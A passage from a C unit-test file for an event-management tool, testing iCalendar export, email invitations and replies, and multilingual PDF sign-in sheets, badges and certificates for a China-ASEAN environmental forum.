                        g_variant_new_parsed ("[('Old', 'participants', 'en', 'en', ['name', 'fax'])]"));
  g_clear_pointer (&list, g_ptr_array_unref);
  list = liaison_export_templates_list (settings, LIAISON_EXPORT_PARTICIPANTS);
  g_assert_cmpuint (list->len, ==, 0);
}

/* ------------------------------------------------------------------------ */
/* iCalendar                                                                 */

static icalcomponent *
parse_calendar (const char *text)
{
  icalcomponent *root = icalparser_parse_string (text);

  g_assert_nonnull (root);
  g_assert_cmpint (icalcomponent_isa (root), ==, ICAL_VCALENDAR_COMPONENT);
  for (icalcomponent *c = icalcomponent_get_first_component (root, ICAL_ANY_COMPONENT); c != NULL;
       c = icalcomponent_get_next_component (root, ICAL_ANY_COMPONENT))
    g_assert_null (icalcomponent_get_first_property (c, ICAL_XLICERROR_PROPERTY));
  return root;
}

static void
test_calendar (Fixture *f, gconstpointer data)
{
  g_autoptr (GError) error = NULL;
  g_autoptr (GPtrArray) events = g_ptr_array_new_with_free_func (g_object_unref);
  g_autofree char *text = NULL;
  icalcomponent   *root, *c;
  guint            n = 0;

  g_ptr_array_add (events, liaison_store_get_event (f->store, f->event, &error));
  g_ptr_array_add (events, liaison_store_get_event (f->store, f->month_event, &error));
  text = liaison_ics_export_events (f->store, events, &error);
  g_assert_no_error (error);
  g_assert_true (g_str_has_prefix (text, "BEGIN:VCALENDAR\r\n"));
  g_assert_nonnull (strstr (text, "\r\nMETHOD:PUBLISH\r\n"));
  /* The addresses of the people stay here. */
  g_assert_null (strstr (text, "ATTENDEE"));
  g_assert_null (strstr (text, "li.xia@"));

  root = parse_calendar (text);
  g_assert_nonnull (icalcomponent_get_first_component (root, ICAL_VTIMEZONE_COMPONENT));
  for (c = icalcomponent_get_first_component (root, ICAL_VEVENT_COMPONENT); c != NULL;
       c = icalcomponent_get_next_component (root, ICAL_VEVENT_COMPONENT), n++)
    {
      const char   *uid = icalcomponent_get_uid (c);
      icalproperty *start = icalcomponent_get_first_property (c, ICAL_DTSTART_PROPERTY);

      if (g_str_equal (uid, f->event))
        {
          g_assert_cmpstr (icalproperty_get_parameter_as_string (start, "TZID"), ==, "Asia/Yangon");
          g_assert_cmpstr (icalcomponent_get_summary (c), ==,
                           "China-ASEAN Environmental Cooperation Forum 2025; Marine Plastics, Blue Partnership \\ Yangon");
        }
      else
        {
          g_assert_cmpstr (uid, ==, f->month_event);
          g_assert_true (icalcomponent_get_dtstart (c).is_date);
        }
    }
  g_assert_cmpuint (n, ==, 2);
  icalcomponent_free (root);
}

/* A reply as Thunderbird (Lightning) writes one for an invitation it got:
 * the request's UID, DTSTART in its zone, ORGANIZER, and only the
 * answering ATTENDEE with its PARTSTAT; its own X-MOZ properties. */
static char *
thunderbird_reply (icalcomponent *request_event, const char *partstat)
{
  icalproperty    *attendee = icalcomponent_get_first_property (request_event, ICAL_ATTENDEE_PROPERTY);
  icalproperty    *organizer = icalcomponent_get_first_property (request_event, ICAL_ORGANIZER_PROPERTY);
  icalproperty    *start = icalcomponent_get_first_property (request_event, ICAL_DTSTART_PROPERTY);
  g_autofree char *start_value = icalproperty_get_value_as_string_r (start);

  return g_strdup_printf ("BEGIN:VCALENDAR\r\n"
                          "PRODID:-//Mozilla.org/NONSGML Mozilla Calendar V1.1//EN\r\n"
                          "VERSION:2.0\r\n"
                          "METHOD:REPLY\r\n"
                          "BEGIN:VEVENT\r\n"
                          "CREATED:20250901T021502Z\r\n"
                          "LAST-MODIFIED:20250901T021530Z\r\n"
                          "DTSTAMP:20250901T021530Z\r\n"
                          "UID:%s\r\n"
                          "SUMMARY:%s\r\n"
                          "ORGANIZER;CN=%s:%s\r\n"
                          "ATTENDEE;CN=%s;PARTSTAT=%s;ROLE=REQ-PARTICIPANT;CUTYPE=INDIVIDUAL:%s\r\n"
                          "DTSTART;TZID=%s:%s\r\n"
                          "SEQUENCE:0\r\n"
                          "X-MOZ-RECEIVED-SEQUENCE:0\r\n"
                          "X-MOZ-RECEIVED-DTSTAMP:20250901T000000Z\r\n"
                          "X-MOZ-GENERATION:1\r\n"
                          "END:VEVENT\r\n"
                          "END:VCALENDAR\r\n",
                          icalcomponent_get_uid (request_event), "Invitation", icalproperty_get_parameter_as_string (organizer, "CN"),
                          icalproperty_get_organizer (organizer), "Somebody", partstat, icalproperty_get_attendee (attendee),
                          icalproperty_get_parameter_as_string (start, "TZID"), start_value);
}

/* And as Outlook does: its own Windows zone and VTIMEZONE, MAILTO in
 * capitals, the attendee's address only. */
static char *
outlook_reply (icalcomponent *request_event, const char *partstat)
{
  icalproperty    *attendee = icalcomponent_get_first_property (request_event, ICAL_ATTENDEE_PROPERTY);
  icalproperty    *organizer = icalcomponent_get_first_property (request_event, ICAL_ORGANIZER_PROPERTY);
  g_autofree char *address = g_strconcat ("MAILTO:", icalproperty_get_attendee (attendee) + 7, NULL);

  return g_strdup_printf ("BEGIN:VCALENDAR\r\n"
                          "METHOD:REPLY\r\n"
                          "PRODID:Microsoft Exchange Server 2010\r\n"
                          "VERSION:2.0\r\n"
                          "BEGIN:VTIMEZONE\r\n"
                          "TZID:Myanmar Standard Time\r\n"
                          "BEGIN:STANDARD\r\n"
                          "DTSTART:16010101T000000\r\n"
                          "TZOFFSETFROM:+0630\r\n"
                          "TZOFFSETTO:+0630\r\n"
                          "END:STANDARD\r\n"
                          "END:VTIMEZONE\r\n"
                          "BEGIN:VEVENT\r\n"
                          "ATTENDEE;PARTSTAT=%s:%s\r\n"
                          "COMMENT;LANGUAGE=en-US:I look forward to it.\\n\r\n"
                          "SUMMARY;LANGUAGE=en-US:Accepted: Forum\r\n"
                          "DTSTART;TZID=Myanmar Standard Time:20251104T093000\r\n"
                          "DTEND;TZID=Myanmar Standard Time:20251105T170000\r\n"
                          "UID:%s\r\n"
                          "ORGANIZER:%s\r\n"
                          "CLASS:PUBLIC\r\n"
                          "PRIORITY:5\r\n"
                          "DTSTAMP:20250902T081200Z\r\n"
                          "TRANSP:OPAQUE\r\n"
                          "SEQUENCE:0\r\n"
                          "X-MICROSOFT-CDO-APPT-SEQUENCE:0\r\n"
                          "X-MICROSOFT-CDO-OWNERAPPTID:-1\r\n"
                          "END:VEVENT\r\n"
                          "END:VCALENDAR\r\n",
                          partstat, address, icalcomponent_get_uid (request_event), icalproperty_get_organizer (organizer));
}

/* What matches a reply to a registration: the event by UID, the person by
 * the attendee's address. */
static const char *
registration_for_reply (Fixture *f, const char *reply)
{
  icalcomponent *root = parse_calendar (reply);
  icalcomponent *event = icalcomponent_get_first_component (root, ICAL_VEVENT_COMPONENT);
  icalproperty  *attendee = icalcomponent_get_first_property (event, ICAL_ATTENDEE_PROPERTY);
  const char    *address = icalproperty_get_attendee (attendee);
  const char    *found = NULL;

  g_assert_cmpint (icalproperty_get_method (icalcomponent_get_first_property (root, ICAL_METHOD_PROPERTY)), ==, ICAL_METHOD_REPLY);
  g_assert_cmpstr (icalcomponent_get_uid (event), ==, f->event);
  g_assert_true (g_ascii_strncasecmp (address, "mailto:", 7) == 0);
  for (guint i = 0; i < G_N_ELEMENTS (people); i++)
    if (people[i].email != NULL && g_ascii_strcasecmp (people[i].email, address + 7) == 0)
      found = g_ptr_array_index (f->registrations, i);
  icalcomponent_free (root);
  return found;
}

static LiaisonInvitation *
invitation_for (GPtrArray *invitations, const char *registration)
{
  for (guint i = 0; i < invitations->len; i++)
    {
      LiaisonInvitation *inv = g_ptr_array_index (invitations, i);

      if (g_str_equal (inv->registration_id, registration))
        return inv;
    }
  g_error ("no invitation for %s", registration);
}

static void
test_invitations (Fixture *f, gconstpointer data)
{
  g_autoptr (GError) error = NULL;
  g_autoptr (GPtrArray) all = NULL;
  g_autoptr (GPtrArray) invited = NULL;
  const char      *ids[] = { g_ptr_array_index (f->registrations, 0), g_ptr_array_index (f->registrations, 2),
                             g_ptr_array_index (f->registrations, 9), NULL };
  g_autofree char *folder = path_in (f, "invitations");
  guint            saved = 0;

  /* Without an address to reply to there is no invitation. */
  g_assert_null (liaison_itip_build_invitations (f->store, f->event, NULL, "secretariat at example.org", NULL, &error));
  g_assert_error (error, LIAISON_IO_ERROR, LIAISON_IO_ERROR_UNSUPPORTED);
  g_clear_error (&error);

  /* Not said which: those still invited (Myanmar and Indonesia). */
  invited = liaison_itip_build_invitations (f->store, f->event, NULL, "forum@chinaaseanenv.org", "秘书处 Secretariat", &error);
  g_assert_no_error (error);
  g_assert_cmpuint (invited->len, ==, 2);

  all = liaison_itip_build_invitations (f->store, f->event, ids, "forum@chinaaseanenv.org", "China-ASEAN Environmental Cooperation Center, Secretariat", &error);
  g_assert_no_error (error);
  g_assert_cmpuint (all->len, ==, 3);

  for (guint k = 0; k < 2; k++)
    {
      LiaisonInvitation *inv = invitation_for (all, ids[k]);
      icalcomponent     *root, *event;
      icalproperty      *attendee, *organizer, *summary, *start;
      guint              n_attendees = 0;

      g_assert_nonnull (inv->text);
      root = parse_calendar (inv->text);
      g_assert_cmpint (icalproperty_get_method (icalcomponent_get_first_property (root, ICAL_METHOD_PROPERTY)), ==, ICAL_METHOD_REQUEST);
      g_assert_nonnull (icalcomponent_get_first_component (root, ICAL_VTIMEZONE_COMPONENT));
      event = icalcomponent_get_first_component (root, ICAL_VEVENT_COMPONENT);
      g_assert_null (icalcomponent_get_next_component (root, ICAL_VEVENT_COMPONENT));
      g_assert_cmpstr (icalcomponent_get_uid (event), ==, f->event);
      g_assert_nonnull (icalcomponent_get_first_property (event, ICAL_DTSTAMP_PROPERTY));
      g_assert_nonnull (icalcomponent_get_first_property (event, ICAL_SEQUENCE_PROPERTY));
      start = icalcomponent_get_first_property (event, ICAL_DTSTART_PROPERTY);
      g_assert_cmpstr (icalproperty_get_parameter_as_string (start, "TZID"), ==, "Asia/Yangon");
      organizer = icalcomponent_get_first_property (event, ICAL_ORGANIZER_PROPERTY);
      g_assert_cmpstr (icalproperty_get_organizer (organizer), ==, "mailto:forum@chinaaseanenv.org");
      g_assert_cmpstr (icalproperty_get_parameter_as_string (organizer, "CN"), ==, "China-ASEAN Environmental Cooperation Center, Secretariat");
      for (attendee = icalcomponent_get_first_property (event, ICAL_ATTENDEE_PROPERTY); attendee != NULL;
           attendee = icalcomponent_get_next_property (event, ICAL_ATTENDEE_PROPERTY))
        n_attendees++;
      g_assert_cmpuint (n_attendees, ==, 1);
      attendee = icalcomponent_get_first_property (event, ICAL_ATTENDEE_PROPERTY);
      g_assert_cmpstr (icalproperty_get_parameter_as_string (attendee, "PARTSTAT"), ==, "NEEDS-ACTION");
      g_assert_cmpstr (icalproperty_get_parameter_as_string (attendee, "RSVP"), ==, "TRUE");
      summary = icalcomponent_get_first_property (event, ICAL_SUMMARY_PROPERTY);

      if (k == 0)
        {
          /* 李霞 reads Chinese. */
          g_assert_cmpint (inv->language, ==, ZH);
          g_assert_cmpstr (icalproperty_get_attendee (attendee), ==, "mailto:li.xia@mee.gov.cn");
          g_assert_cmpstr (icalcomponent_get_summary (event), ==, "2025年中国-东盟环境合作论坛；海洋减塑, 蓝色伙伴关系");
          g_assert_cmpstr (icalproperty_get_parameter_as_string (summary, "LANGUAGE"), ==, "zh-CN");
          g_assert_cmpstr (icalcomponent_get_description (event), ==, "论坛包括部长级对话。\n第二段。");
          g_assert_true (g_str_has_prefix (inv->subject, "邀请："));
          g_assert_nonnull (strstr (icalcomponent_get_location (event), "仰光"));
        }
      else
        {
          /* Somchai, in English. */
          g_assert_cmpint (inv->language, ==, EN);
          g_assert_cmpstr (icalproperty_get_attendee (attendee), ==, "mailto:somchai.j@onep.go.th");
          g_assert_cmpstr (icalproperty_get_parameter_as_string (attendee, "CN"), ==, "Somchai Jaidee");
          g_assert_cmpstr (icalcomponent_get_summary (event), ==,
                           "China-ASEAN Environmental Cooperation Forum 2025; Marine Plastics, Blue Partnership \\ Yangon");
          g_assert_nonnull (strstr (icalcomponent_get_location (event), "Yangon, Myanmar"));
        }

      /* What a calendar answers comes back to this registration. */
      {
        g_autofree char *thunderbird = thunderbird_reply (event, "ACCEPTED");
        g_autofree char *outlook = outlook_reply (event, "DECLINED");

        g_assert_cmpstr (registration_for_reply (f, thunderbird), ==, ids[k]);
        g_assert_cmpstr (registration_for_reply (f, outlook), ==, ids[k]);
      }
      icalcomponent_free (root);
    }

  /* Tan Wei Ling has no address: no file for her, and the others are saved. */
  g_assert_null (invitation_for (all, ids[2])->text);
  g_assert_true (liaison_itip_save_invitations (all, folder, &saved, &error));
  g_assert_no_error (error);
  g_assert_cmpuint (saved, ==, 2);
  {
    g_autofree char *file = g_build_filename (folder, invitation_for (all, ids[1])->file_name, NULL);

    g_assert_true (g_str_has_suffix (file, "-somchai-jaidee.ics"));
    g_assert_true (g_file_test (file, G_FILE_TEST_EXISTS));
  }

  /* A registration of another event is refused. */
  {
    const char *wrong[] = { "01000000-0000-7000-8000-000000000000", NULL };

    g_assert_null (liaison_itip_build_invitations (f->store, f->event, wrong, "forum@chinaaseanenv.org", NULL, &error));
    g_assert_error (error, LIAISON_STORE_ERROR, LIAISON_STORE_ERROR_NOT_FOUND);
  }
}

/* ------------------------------------------------------------------------ */
/* Print                                                                     */

static char *
write_pdf (Fixture *f, LiaisonPrintKind kind, const char *name, LiaisonPrintDocument **out)
{
  g_autoptr (GError) error = NULL;
  g_autoptr (LiaisonPrintDocument) doc = liaison_print_document_new (f->store, kind, f->event, NULL, &error);
  char *path = path_in (f, name);

  g_assert_no_error (error);
  g_assert_true (liaison_print_document_write_pdf (doc, path, &error));
  g_assert_no_error (error);
  if (out != NULL)
    *out = g_steal_pointer (&doc);
  return path;
}

/* The text of pages first to last, or of their left or right half
 * (side -1 or 1, for the two languages of a certificate). */
static char *
pdf_text_side (const char *path, int first, int last, int side)
{
  g_autofree char *f = g_strdup_printf ("%d", first);
  g_autofree char *l = g_strdup_printf ("%d", last);
  const char      *argv[] = { "pdftotext", "-f", f, "-l", l, "-enc", "UTF-8", "-x", side > 0 ? "421" : "0", "-y", "0",
                              "-W", side != 0 ? "421" : "2000", "-H", "2000", path, "-", NULL };
  int              status;
  char            *out = run (argv, &status);

  g_assert_cmpint (status, ==, 0);
  return out;
}

static char *
pdf_text (const char *path, int first, int last)
{
  return pdf_text_side (path, first, last, 0);
}

/* The text without white space and hyphens: pdftotext breaks a line where
 * the page wrapped it (and drops a hyphen it wrapped at), and puts a space
 * before a mark its glyph positions move back over (Myanmar's ိ), so names
 * are compared as their letters in order. */
static char *
letters (const char *text)
{
  GString *out = g_string_new (NULL);

  for (const char *p = text; *p != '\0'; p = g_utf8_next_char (p))
    if (!g_unichar_isspace (g_utf8_get_char (p)) && *p != '-')
      g_string_append_unichar (out, g_utf8_get_char (p));
  return g_string_free (out, FALSE);
}

static gboolean
contains_name (const char *text, const char *name)
{
  g_autofree char *flat = letters (text);
  g_autofree char *want = name != NULL ? letters (name) : NULL;

  return want == NULL || strstr (flat, want) != NULL;
}

/* Every font embedded, and the families of the scripts printed among them. */
static void
assert_fonts_embedded (const char *path, const char *const *families)
{
  const char      *argv[] = { "pdffonts", path, NULL };
  int              status;
  g_autofree char *out = run (argv, &status);
  g_auto (GStrv) lines = g_strsplit (out, "\n", -1);

  g_assert_cmpint (status, ==, 0);
  /* name, type, encoding, then emb sub uni: every font embedded. */
  for (guint i = 2; lines[i] != NULL; i++)
    if (*lines[i] != '\0')
      g_assert_nonnull (strstr (lines[i], " yes yes "));
  for (guint i = 0; families[i] != NULL; i++)
    g_assert_nonnull (strstr (out, families[i]));
}

static void
test_signin (Fixture *f, gconstpointer data)
{
  g_autoptr (LiaisonPrintDocument) doc = NULL;
  g_autofree char *path = NULL;
  g_autofree char *text = NULL;
  g_autoptr (GError) error = NULL;

  if (!have ("pdftotext") || !have ("pdffonts"))
    return;
  path = write_pdf (f, LIAISON_PRINT_SIGNIN, "signin.pdf", &doc);
  /* Not the waitlisted (Philippines) nor the declined (Brunei). */
  g_assert_cmpuint (liaison_print_document_get_n_people (doc), ==, G_N_ELEMENTS (people) - 2);
  g_assert_cmpuint (liaison_print_document_get_n_pages (doc), ==, 1);
  g_assert_null (liaison_print_document_get_missing_glyphs (doc)[0]);
  text = pdf_text (path, 1, 1);
  g_assert_true (contains_name (text, "签到表"));
  g_assert_true (contains_name (text, "Sign-in sheet"));
  g_assert_true (contains_name (text, "2025年中国-东盟环境合作论坛"));
  g_assert_true (contains_name (text, "China-ASEAN Environmental Cooperation Forum 2025"));
  g_assert_true (contains_name (text, "签名"));
  g_assert_true (contains_name (text, "Signature"));
  g_assert_true (contains_name (text, "第 1 页，共 1 页"));
  g_assert_true (contains_name (text, "Page 1 of 1"));
  for (guint i = 0; i < G_N_ELEMENTS (people); i++)
    {
      g_autoptr (LiaisonParticipant) p = liaison_store_get_participant (f->store, g_ptr_array_index (f->participants, i), &error);
      g_autofree char *native = liaison_participant_dup_native_name (p);
      g_autofree char *latin = liaison_participant_dup_latin_name (p);
      gboolean         listed = people[i].status != LIAISON_REGISTRATION_WAITLISTED && people[i].status != LIAISON_REGISTRATION_DECLINED;

      g_assert_cmpint (contains_name (text, native != NULL ? native : latin), ==, listed);
      if (listed)
        g_assert_true (contains_name (text, latin));
    }
  /* By country, then family name: Cambodia before China before Indonesia… */
  {
    const char      *order[] = { "ចាន់ សុខា", "李霞", "Sutrisno", "ສົມພອນ ພົມມະຈັນ", "Ahmad", "အောင်ကျော်မိုး", "陈伟玲", "สมชาย ใจดี", "Nguyễn Thị Minh Khai", NULL };
    g_autofree char *flat = letters (text);
    const char      *last = flat;

    for (guint i = 0; order[i] != NULL; i++)
      {
        g_autofree char *want = letters (order[i]);
        const char      *at = strstr (flat, want);

        g_assert_nonnull (at);
        g_assert_true (at >= last);
        last = at;
      }
  }
  assert_fonts_embedded (path, (const char *[]){ "NotoSans-", "NotoSansCJKsc", "NotoSansThai", "NotoSansKhmer", "NotoSansLao", "NotoSansMyanmar", NULL });
}

/* 130 people: pages break between rows, each page has the heading and the
 * header row, and says which page of how many it is. */
static void
test_signin_pages (Fixture *f, gconstpointer data)
{
  g_autoptr (LiaisonPrintDocument) doc = NULL;
  g_autofree char *path = NULL;
  g_autoptr (GError) error = NULL;
  guint n_pages;

  if (!have ("pdftotext"))
    return;
  for (guint i = 0; i < 130; i++)
    {
      Person           person = people[i % G_N_ELEMENTS (people)];
      g_autofree char *given = g_strdup_printf ("%s%u", person.given_latin, i);
      g_autofree char *id = NULL;

      person.given_latin = given;
      person.email = NULL;
      id = add_participant (f, &person);
      g_object_unref (liaison_store_register (f->store, f->event, id, LIAISON_ROLE_DELEGATE, LIAISON_REGISTRATION_REGISTERED, LIAISON_ORIGIN_LOCAL, &error));
      g_assert_no_error (error);
    }
  path = write_pdf (f, LIAISON_PRINT_SIGNIN, "signin-long.pdf", &doc);
  n_pages = liaison_print_document_get_n_pages (doc);
  g_assert_cmpuint (n_pages, >=, 5);
  for (guint page = 1; page <= n_pages; page++)
    {
      g_autofree char *text = pdf_text (path, page, page);
      g_autofree char *zh = g_strdup_printf ("第 %u 页，共 %u 页", page, n_pages);
      g_autofree char *en = g_strdup_printf ("Page %u of %u", page, n_pages);

      g_assert_true (contains_name (text, "China-ASEAN Environmental Cooperation Forum 2025"));
      g_assert_true (contains_name (text, "签名"));
      g_assert_true (contains_name (text, "Signature"));
      g_assert_true (contains_name (text, zh));
      g_assert_true (contains_name (text, en));
    }
  /* Every row once: the last number is the count. */
  {
    g_autofree char *text = pdf_text (path, n_pages, n_pages);
    g_autofree char *last = g_strdup_printf ("%u", (guint) G_N_ELEMENTS (people) - 2 + 130);

    g_assert_true (contains_name (text, last));
  }
}

static char *
render_page (const char *pdf, int page, int dpi, const char *prefix)
{
  g_autofree char *p = g_strdup_printf ("%d", page);
  g_autofree char *r = g_strdup_printf ("%d", dpi);
  const char      *argv[] = { "pdftoppm", "-f", p, "-l", p, "-r", r, "-png", "-singlefile", pdf, prefix, NULL };
  int              status;
  g_autofree char *out = run (argv, &status);

  g_assert_cmpint (status, ==, 0);
  return g_strconcat (prefix, ".png", NULL);
}

static void
test_badges (Fixture *f, gconstpointer data)
{
  g_autoptr (LiaisonPrintDocument) doc = NULL;
  g_autofree char *path = NULL;
  g_autofree char *text = NULL;
  g_autofree char *prefix = NULL;
  g_autofree char *png = NULL;
  g_autofree char *decoded = NULL;
  g_autoptr (GError) error = NULL;
  g_auto (GStrv) codes = NULL;
  guint expected = 0;

  if (!have ("pdftotext") || !have ("pdffonts") || !have ("pdftoppm") || !have ("zbarimg"))
    return;
  path = write_pdf (f, LIAISON_PRINT_BADGES, "badges.pdf", &doc);
  /* Those with a place: registered, confirmed, attended. */
  for (guint i = 0; i < G_N_ELEMENTS (people); i++)
    if (people[i].status == LIAISON_REGISTRATION_REGISTERED || people[i].status == LIAISON_REGISTRATION_CONFIRMED || people[i].status == LIAISON_REGISTRATION_ATTENDED)
      expected++;
  g_assert_cmpuint (liaison_print_document_get_n_people (doc), ==, expected);
  g_assert_cmpuint (liaison_print_document_get_n_pages (doc), ==, (expected + 7) / 8);

  text = pdf_text (path, 1, 2);
  for (guint i = 0; i < G_N_ELEMENTS (people); i++)
    {
      g_autoptr (LiaisonParticipant) p = liaison_store_get_participant (f->store, g_ptr_array_index (f->participants, i), &error);
      g_autofree char *native = liaison_participant_dup_native_name (p);
      g_autofree char *latin = liaison_participant_dup_latin_name (p);
      gboolean         badge = people[i].status == LIAISON_REGISTRATION_REGISTERED || people[i].status == LIAISON_REGISTRATION_CONFIRMED || people[i].status == LIAISON_REGISTRATION_ATTENDED;

      if (!badge)
        continue;
      g_assert_true (contains_name (text, native));
      g_assert_true (contains_name (text, latin));
      g_assert_true (contains_name (text, liaison_uuid_short (g_ptr_array_index (f->registrations, i))));
    }
  g_assert_true (contains_name (text, "发言人"));
  g_assert_true (contains_name (text, "Speaker"));
  assert_fonts_embedded (path, (const char *[]){ "NotoSans-", "NotoSansCJKsc", "NotoSansThai", "NotoSansKhmer", "NotoSansLao", NULL });

  /* Each QR code reads back as the registration's id, which the check-in
   * box takes as it is typed by a hand scanner. */
  prefix = path_in (f, "badges-1");
  png = render_page (path, 1, 200, prefix);
  {
    const char *argv[] = { "zbarimg", "--quiet", "--raw", "-Sdisable", "-Sqrcode.enable", png, NULL };
    int         status;

    decoded = run (argv, &status);
    g_assert_cmpint (status, ==, 0);
  }
  codes = g_strsplit (g_strstrip (decoded), "\n", -1);
  g_assert_cmpuint (g_strv_length (codes), ==, MIN (expected, 8));
  for (guint i = 0; codes[i] != NULL; i++)
    {
      g_autoptr (GPtrArray) found = NULL;

      g_assert_true (g_ptr_array_find_with_equal_func (f->registrations, codes[i], g_str_equal, NULL));
      found = liaison_store_find_registrations (f->store, f->event, codes[i], &error);
      g_assert_no_error (error);
      g_assert_cmpuint (found->len, ==, 1);
      g_assert_cmpstr (liaison_registration_get_id (g_ptr_array_index (found, 0)), ==, codes[i]);
    }
}

static void
test_certificates (Fixture *f, gconstpointer data)
{
  g_autoptr (LiaisonPrintDocument) doc = NULL;
  g_autofree char *path = NULL;
  guint            attended = 0;

  if (!have ("pdftotext"))
    return;
  path = write_pdf (f, LIAISON_PRINT_CERTIFICATES, "certificates.pdf", &doc);
  for (guint i = 0; i < G_N_ELEMENTS (people); i++)
    attended += people[i].status == LIAISON_REGISTRATION_ATTENDED;
  g_assert_cmpuint (liaison_print_document_get_n_pages (doc), ==, attended);
  g_assert_cmpfloat (liaison_print_document_get_page_width (doc), >, liaison_print_document_get_page_height (doc));
  for (guint page = 1; page <= attended; page++)
    {
      g_autofree char *zh = pdf_text_side (path, page, page, -1);
      g_autofree char *en = pdf_text_side (path, page, page, 1);

      g_assert_true (contains_name (zh, "参会证书"));
      g_assert_true (contains_name (en, "Certificate of Participation"));
      g_assert_true (contains_name (zh, "兹证明"));
      g_assert_true (contains_name (en, "This is to certify that"));
      g_assert_true (contains_name (zh, "2025年11月4日至5日"));
      g_assert_true (contains_name (en, "4–5 November 2025"));
      g_assert_true (contains_name (zh, "“2025年中国-东盟环境合作论坛；海洋减塑, 蓝色伙伴关系”"));
      g_assert_true (contains_name (en, "China-ASEAN Environmental Cooperation Forum 2025; Marine Plastics, Blue Partnership \\ Yangon"));
      g_assert_false (contains_name (en, "论坛"));
    }
  {
    g_autofree char *zh = pdf_text_side (path, 1, attended, -1);
    g_autofree char *en = pdf_text_side (path, 1, attended, 1);

    /* A Chinese name as written on the Chinese side, another script with
     * its Latin form; the English side in Latin, with the honorific. */
    g_assert_true (contains_name (zh, "兹证明 李霞 于"));
    g_assert_true (contains_name (en, "Li Xia"));
    g_assert_true (contains_name (zh, "สมชาย ใจดี（Somchai Jaidee）"));
    g_assert_true (contains_name (en, "Dr Somchai Jaidee"));
    g_assert_true (contains_name (en, "Dato' Ahmad bin Ismail"));
    g_assert_false (contains_name (en, "Nguyen"));
  }
}

/* A character no installed font has (a Hong Kong name from a legacy
 * system, in the private use area) is reported, not printed silently as
 * a box. */
static void
test_missing_glyph (Fixture *f, gconstpointer data)
{
  Person           person = { "CN", "陳", "\xee\x80\x80明", "Chan", "Ming", LIAISON_NAME_ORDER_FAMILY_FIRST, NULL, NULL, NULL, NULL, NULL, 0, 0 };
  g_autofree char *id = add_participant (f, &person);
  g_autoptr (GError) error = NULL;
  g_autoptr (LiaisonPrintDocument) badges = NULL;
  g_autoptr (LiaisonPrintDocument) signin = NULL;
  const char *const *missing;

  g_object_unref (liaison_store_register (f->store, f->event, id, LIAISON_ROLE_DELEGATE, LIAISON_REGISTRATION_REGISTERED, LIAISON_ORIGIN_LOCAL, &error));
  badges = liaison_print_document_new (f->store, LIAISON_PRINT_BADGES, f->event, NULL, &error);
  g_assert_no_error (error);
  missing = liaison_print_document_get_missing_glyphs (badges);
  g_assert_cmpuint (g_strv_length ((char **) missing), ==, 1);
  g_assert_cmpstr (missing[0], ==, "陳 \xee\x80\x80明");
  signin = liaison_print_document_new (f->store, LIAISON_PRINT_SIGNIN, f->event, NULL, &error);
  g_assert_cmpuint (g_strv_length ((char **) liaison_print_document_get_missing_glyphs (signin)), >=, 1);
}

int
main (int argc, char **argv)
{
  g_test_init (&argc, &argv, G_TEST_OPTION_ISOLATE_DIRS, NULL);

#define ADD(path, func) g_test_add (path, Fixture, NULL, fixture_set_up, func, fixture_tear_down)
  g_test_add_func ("/liaison/export/labels", test_labels);
  g_test_add_func ("/liaison/export/neutralise", test_neutralise);
  ADD ("/liaison/export/csv", test_csv);
  ADD ("/liaison/export/csv-registrations", test_csv_registrations);
  ADD ("/liaison/export/columns", test_columns);
  ADD ("/liaison/export/xlsx", test_xlsx);
  ADD ("/liaison/export/xlsx-text", test_xlsx_text);
  g_test_add_func ("/liaison/export/templates", test_templates);
  ADD ("/liaison/export/calendar", test_calendar);
  ADD ("/liaison/export/invitations", test_invitations);
  ADD ("/liaison/export/signin", test_signin);
  ADD ("/liaison/export/signin-pages", test_signin_pages);
  ADD ("/liaison/export/badges", test_badges);
  ADD ("/liaison/export/certificates", test_certificates);
  ADD ("/liaison/export/missing-glyph", test_missing_glyph);
#undef ADD

  return g_test_run ();
}
